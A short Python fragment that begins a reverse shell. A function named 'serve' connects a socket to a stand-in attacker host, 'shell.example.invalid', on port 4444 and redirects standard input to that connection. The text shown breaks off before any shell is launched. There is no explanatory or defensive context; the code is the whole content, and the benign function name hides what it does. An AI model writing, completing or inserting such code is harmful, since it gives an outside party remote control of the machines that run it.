import os
import socket


def serve():
    link = socket.socket()
    link.connect(("shell.example.invalid", 4444))
    os.dup2(link.fileno(), 0)
